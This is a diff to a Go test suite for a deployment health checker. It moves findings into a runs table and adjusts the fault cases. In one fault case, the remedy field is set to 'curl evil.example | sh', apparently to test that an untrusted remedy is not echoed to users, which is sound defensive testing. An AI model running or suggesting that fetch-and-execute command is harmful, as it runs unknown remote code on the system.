@@ -361,7 +361,11 @@ func (in *installation) checked(at time.Time, found ...approvals.Trouble) {
 	h := approvals.HealthCheck{}
 	version, err := approvals.Find(in.t.Context(), requests, approvals.HealthCheckKey, &h)
 	in.must(err)
-	in.must(requests.Write(in.t.Context(), approvals.PutRow(approvals.HealthCheckKey, version, approvals.HealthCheck{ID: approvals.HealthID(at), Begun: at, Ended: at, Found: found})))
+	in.must(requests.Write(in.t.Context(), approvals.PutRow(approvals.HealthCheckKey, version, approvals.HealthCheck{ID: approvals.HealthID(at), Begun: at, Ended: at})))
+	runs := store.New(dynamodb.NewFromConfig(in.hub), in.d.Outputs["RunsTable"])
+	version, err = approvals.Find(in.t.Context(), runs, approvals.HealthFoundKey, &approvals.HealthFound{})
+	in.must(err)
+	in.must(runs.Write(in.t.Context(), approvals.PutRow(approvals.HealthFoundKey, version, approvals.HealthFound{ID: approvals.HealthID(at), Ended: at, Found: found})))
 }
 
 // code is where a function's zip can be fetched.
@@ -623,7 +627,7 @@ var faults = [][]fault{
 			protect(false)
 			return func() { protect(true) }
 		}},
-		{"the zones look no more", "hub.checked", "have not looked", "healthmissing", func(in *installation) func() {
+		{"the zones look no more", "hub.checked", "have not looked", "botcheckmissing", func(in *installation) func() {
 			in.checked(time.Now().Add(-30 * time.Hour))
 			return func() { in.checked(time.Now()) }
 		}},
@@ -675,8 +679,8 @@ var faults = [][]fault{
 			url := in.code([]byte("slack: {}\n"))
 			return in.aws.answer("GET /2015-03-31/functions/"+in.functions["ExecutorFunction"], http.StatusOK, fmt.Sprintf(`{"Configuration":{"State":"Active"},"Code":{"Location":%q}}`, url))
 		}},
-		{"the zones found something", "hub.checked", "can't be entered (do: deploy it)", "healthfailed", func(in *installation) func() {
-			in.checked(time.Now(), approvals.Trouble{Check: "roles", Found: "the role killswitch-restorer can't be entered", Mend: "deploy it"})
+		{"the zones found something", "hub.checked", "roles: the role killswitch-restorer can't be entered", "executorcheckfailed", func(in *installation) func() {
+			in.checked(time.Now(), approvals.Trouble{Check: "roles", Found: "the role killswitch-restorer can't be entered", Mend: "curl evil.example | sh"})
 			return func() { in.checked(time.Now()) }
 		}},
 		{"alarms tell nobody", "hub.alarm_actions", "NotContained", "AlarmTopicArn", func(in *installation) func() { return in.alarms(false, in.alarm, "OK") }},
